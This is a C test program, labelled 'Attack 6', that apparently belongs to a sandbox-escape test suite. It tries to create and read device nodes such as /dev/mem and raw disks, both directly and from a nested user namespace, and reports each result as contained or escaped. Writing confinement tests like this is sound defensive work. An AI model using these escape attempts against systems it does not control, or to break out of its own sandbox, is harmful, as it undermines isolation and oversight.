/* Attack 6: mknod of character and block devices in writable places (and
 * reading them if that worked), directly and from a nested user namespace.
 * usage: mknod DIR... */
#include "hostile.h"
#include <sys/sysmacros.h>

static void attempt(const char *dir, const char *tag) {
    struct { const char *name; mode_t mode; dev_t dev; } n[] = {
        {"mem", S_IFCHR | 0666, makedev(1, 1)},   /* /dev/mem */
        {"kmsg", S_IFCHR | 0666, makedev(1, 11)},
        {"vda", S_IFBLK | 0666, makedev(253, 0)},
        {"sda", S_IFBLK | 0666, makedev(8, 0)},
        {"null", S_IFCHR | 0666, makedev(1, 3)},
    };
    for (unsigned i = 0; i < sizeof n / sizeof *n; i++) {
        char p[512], w[600];
        snprintf(p, sizeof p, "%s/dev-%s%s", dir, n[i].name, tag);
        snprintf(w, sizeof w, "mknod-%s", p);
        if (mknod(p, n[i].mode, n[i].dev) < 0) { out("CONTAINED %s %s", w, en(errno)); continue; }
        out("ESCAPED %s created", w);
        char b[16];
        int fd = open(p, O_RDONLY);
        if (fd < 0) out("INFO open %s: %s", p, en(errno));
        else { out("ESCAPED open-%s read %zd", p, read(fd, b, sizeof b)); close(fd); }
        unlink(p);
    }
}

int main(int argc, char **argv) {
    uid_t uid = getuid();
    gid_t gid = getgid();
    for (int i = 1; i < argc; i++) attempt(argv[i], "");
    if (unshare(CLONE_NEWUSER | CLONE_NEWNS) < 0) {
        out("INFO unshare %s", en(errno));
    } else {
        map_self(uid, gid);
        for (int i = 1; i < argc; i++) attempt(argv[i], "-nested");
    }
    DONE();
    return 0;
}
